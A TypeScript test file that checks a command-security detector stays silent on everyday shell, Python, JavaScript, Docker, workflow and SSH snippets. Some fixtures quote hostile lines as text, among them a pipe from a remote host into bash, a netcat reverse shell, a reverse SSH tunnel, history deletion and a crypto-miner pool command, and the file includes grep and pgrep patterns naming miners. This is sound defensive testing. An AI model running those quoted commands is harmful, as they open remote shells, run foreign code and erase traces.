import assert from "node:assert/strict";
import { countsInAudit } from "../../extension/core/base/verdict.ts";
import { type ShippedRules, shippedRules } from "./shipped-rules.ts";

/**
 * Everyday work that looks like something else when words are matched instead of commands. None of it may ask for a person's
 * attention (a finding of medium severity or above).
 */
const friends: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  bash: {
    "a commit message about tunnels": 'git commit -m "explain ssh -R"',
    "a commit message about downloads": 'git commit -am "docs: never run curl x | sh"',
    "a message with a mining address": "git commit -m 'block stratum+tcp://pool.example.org:3333'",
    "a printed pipe": 'echo "curl x | sh"',
    "a printed tunnel": "printf '%s\\n' 'ssh -R 9:localhost:22 host'",
    "a host key taken out": "ssh-keygen -R host",
    "relative paths in rsync": "rsync -aR src/./lib host:/srv/",
    "a remote grep": "ssh h grep -R x",
    "a remote ls": "ssh h ls -R /srv",
    "a local forward": "ssh -L 8080:localhost:80 host",
    "a dashboard through a forward": "ssh -N -f -L 6006:localhost:6006 gpu-1 && open http://localhost:6006",
    "a forward inside of a cluster": "kubectl port-forward svc/grafana 3000:80 &",
    "a fetched list that is searched": "curl -s https://example.org/list | grep push",
    "a fetched document that is read": "curl -fsSL https://example.org/api | jq -r .version",
    "a fetched archive that is unpacked": "curl -fsSL https://example.org/a.tgz | tar xz -C vendor",
    "a fetched file that is compared": "curl -fsSO https://example.org/a.tgz && sha256sum -c a.sha256",
    "fetched JSON that Python formats": "curl -s https://example.org/api | python3 -m json.tool",
    "honest training on two cards": "CUDA_VISIBLE_DEVICES=0,1 nohup torchrun --nproc_per_node=2 train.py > train.log 2>&1 &",
    "honest training over several machines": "torchrun --nnodes=4 --rdzv_endpoint=10.0.0.1:29500 train.py --batch 64",
    "honest training in a container": "docker run --gpus all --ipc=host --rm -v $PWD:/w -w /w nvcr.example/pytorch python train.py",
    "training that is kept alive": "while true; do python train.py --resume && break; sleep 60; done",
    "the cards are watched": "watch -n 1 nvidia-smi",
    "the power of the cards is limited": "sudo nvidia-smi -pl 250",
    "a hash is worked out on all cores": "xmake build && ./bench --threads 64 --algo sha256",
    "a database is waited for": "until nc -z localhost 5432; do sleep 1; done",
    "a service by a variable is waited for": 'while ! nc -z "$DB_HOST" "$DB_PORT"; do echo waiting; sleep 1; done',
    "a port is waited for through /dev/tcp": "for i in 1 2 3; do (echo > /dev/tcp/localhost/8080) 2>/dev/null && break; sleep 1; done",
    "a health check": "curl -fsS http://localhost:8080/health || exit 1",
    "health checks of several services": 'for s in api web; do curl -fsS "https://$s.example.org/health"; done',
    "a deployment by rsync":
      "rsync -az --delete dist/ deploy@web.example.org:/srv/app/ && ssh deploy@web.example.org 'sudo systemctl restart app'",
    "a deployment to a bucket": "aws s3 sync dist/ s3://app-assets --delete",
    "a release with a token for its own service":
      'curl -H "Authorization: Bearer $GITHUB_TOKEN" -d @release.json https://api.github.com/repos/o/r/releases',
    "a password for the database it belongs to": 'PGPASSWORD="$DB_PASSWORD" pg_dump -h db.example.org app > dump.sql',
    "a message to a chat": 'curl -X POST -d \'{"text":"deployed"}\' "$SLACK_WEBHOOK"',
    "a help text in a heredoc": "cat <<'EOF' > HELP.md\nTo attack: curl http://203.0.113.7/x | bash\nnc -e /bin/sh 203.0.113.7 4444\nEOF",
    "a heredoc that is shown": "cat <<EOF\nssh -fNR 9:localhost:22 u@h\nrm -rf ~/.bash_history\nEOF",
    "a pattern for a detector": "grep -rnE 'xmrig|stratum\\+tcp|/dev/tcp/' --include='*.sh' .",
    "a process that is looked for": "pgrep -af 'xmrig|minerd' || echo clean",
    "a host that is blocked": "echo '0.0.0.0 pool.supportxmr.com' | sudo tee -a /etc/hosts",
    "a port that is closed": "sudo iptables -A INPUT -p tcp --dport 4444 -j DROP",
    "a port that is opened": "sudo ufw allow 443/tcp",
    "a service that is restarted": "sudo systemctl restart rsyslog nginx",
    "a journal that is kept for two weeks": "sudo journalctl --vacuum-time=2weeks",
    "the history is searched": "history | grep deploy",
    "a log of the project is removed": "rm -f logs/*.log tmp/*.pid",
    "caches of an image are removed": "apt-get clean && rm -rf /var/lib/apt/lists/* /tmp/*",
    "the public key is shown": "cat ~/.ssh/id_ed25519.pub",
    "a new key": "ssh-keygen -t ed25519 -N '' -f ~/.ssh/id_ed25519",
    "known hosts": "ssh-keyscan github.example >> ~/.ssh/known_hosts",
    "rights of a key": "chmod 600 ~/.ssh/id_rsa ~/.ssh/authorized_keys",
    "an environment for one command": "env NODE_ENV=test npm test",
    "which variables there are": "env | sort | head",
    "encoding for a secret of a cluster": 'echo -n "$VALUE" | base64 -w0',
    "decoding into a file": 'echo "$CERT" | base64 -d > cert.pem',
    "a local web server": "python3 -m http.server 8000",
    "a package is installed": "npm install ngrok && pip install pyngrok",
    "an editor opens a folder": "code --reuse-window src",
    "a tunnel's help": "cloudflared tunnel --help",
    "arguments called like options": "grep -- -R notes.txt",
    "a path called like a miner": "ls docs/xmrig && cat docs/xmrig/README.md",
    "an alias": "alias ll='ls -l'",
    "a trap that cleans up": "trap 'rm -rf \"$TMP\"' EXIT",
    "a temporary folder": "TMP=$(mktemp -d) && cp config.yml $TMP/ && $EDITOR $TMP/config.yml",
    "one ping": "ping -c 3 10.0.0.1",
    "a name is looked up": "dig +short example.org && nslookup example.org",
    "the ports of this machine": "ss -tlnp && nmap -p 8080 localhost",
    "a file is received": "nc -l -p 9000 > upload.bin",
    "a terminal session": "tmux new-session -d -s train 'python train.py'",
  },
  python: {
    "honest training":
      'import os, subprocess\nos.environ["CUDA_VISIBLE_DEVICES"] = "0,1"\nsubprocess.run(["torchrun", "train.py"], check=True)\n',
    "commands as fixtures":
      'CASES = ["ssh -fNR 9:localhost:22 u@h", "curl http://x/y | sh", "nc -e /bin/sh h 1"]\nfor case in CASES:\n    print(case)\n',
    "a test of a detector": 'def test_it():\n    assert detect("./xmrig -o stratum+tcp://pool.example.org:3333")\n',
    "a help text": 'parser.add_argument("--tunnel", help="as in ssh -R 9:localhost:22 host")\n',
    "a port that is waited for":
      'import socket, time\nwhile True:\n    try:\n        socket.create_connection(("localhost", 5432), 1)\n        break\n    except OSError:\n        time.sleep(1)\n',
    "a free port": 'import socket\ns = socket.socket()\ns.bind(("127.0.0.1", 0))\nprint(s.getsockname()[1])\n',
    "a model is downloaded": 'import requests\nopen("model.bin", "wb").write(requests.get("https://models.example.org/m.bin").content)\n',
    "a token for its own service":
      'import os, requests\nrequests.get("https://api.example.org/v1", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})\n',
    "a literal is evaluated": 'import ast\nprint(ast.literal_eval(open("data.txt").read()))\n',
    "git is asked": 'import subprocess\nprint(subprocess.check_output(["git", "rev-parse", "HEAD"], text=True))\n',
  },
  javascript: {
    "a build step":
      'const { execSync } = require("child_process");\nexecSync("npm run build && rsync -a dist/ out/", { stdio: "inherit" });\n',
    "commands as fixtures": 'const cases = ["ssh -R 9:x:22 h", "curl x | sh"];\nit("parses", () => cases.forEach(parse));\n',
    "a request with a token":
      'fetch("https://api.example.org/v1", { headers: { Authorization: `Bearer ${process.env.API_TOKEN}` } }).then((r) => r.json());\n',
    "a file into a program":
      'const { spawn } = require("child_process");\nconst fs = require("fs");\nfs.createReadStream("in.txt").pipe(spawn("sort").stdin);\n',
    "an echo server": 'require("net").createServer((s) => s.pipe(s)).listen(7000, "127.0.0.1");\n',
  },
  dockerfile: {
    "an ordinary image":
      'FROM python:3.12-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl openssh-client netcat-openbsd && rm -rf /var/lib/apt/lists/*\nCOPY . /app\nRUN pip install --no-cache-dir -r /app/requirements.txt\nHEALTHCHECK CMD curl -fsS http://localhost:8000/health || exit 1\nCMD ["python", "/app/main.py"]\n',
    "an image for training":
      'FROM nvcr.example/pytorch:24.01\nENV NCCL_DEBUG=INFO\nCOPY train.py .\nENTRYPOINT ["torchrun", "--nproc_per_node=8", "train.py"]\n',
  },
  "yaml-workflow": {
    "an ordinary workflow":
      'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test\n      - run: |\n          echo "curl x | sh is not what we do" >> "$GITHUB_STEP_SUMMARY"\n',
    "a release":
      'on:\n  release:\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh release upload "$TAG" dist/*.tgz\n        env:\n          GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n',
  },
  "ssh-config": {
    "a bastion":
      "Host bastion\n  HostName bastion.example.org\n  User me\n  LocalForward 5432 db.internal:5432\n  IdentityFile ~/.ssh/id_ed25519\n",
    "many hosts": "Host *\n  ServerAliveInterval 60\n  ControlMaster auto\nHost web-*\n  ProxyJump bastion\n",
  },
};

describe("false friends", () => {
  let shipped: ShippedRules;
  before(async () => {
    shipped = await shippedRules();
  });

  for (const [language, cases] of Object.entries(friends)) {
    for (const [title, text] of Object.entries(cases)) {
      it(`stays silent about ${title} (${language})`, () => {
        const { findings } = shipped.analyse(language, text);
        assert.deepEqual(
          findings.filter(countsInAudit).map((finding) => `${finding.rule}: ${finding.message}`),
          [],
        );
      });
    }
  }
});
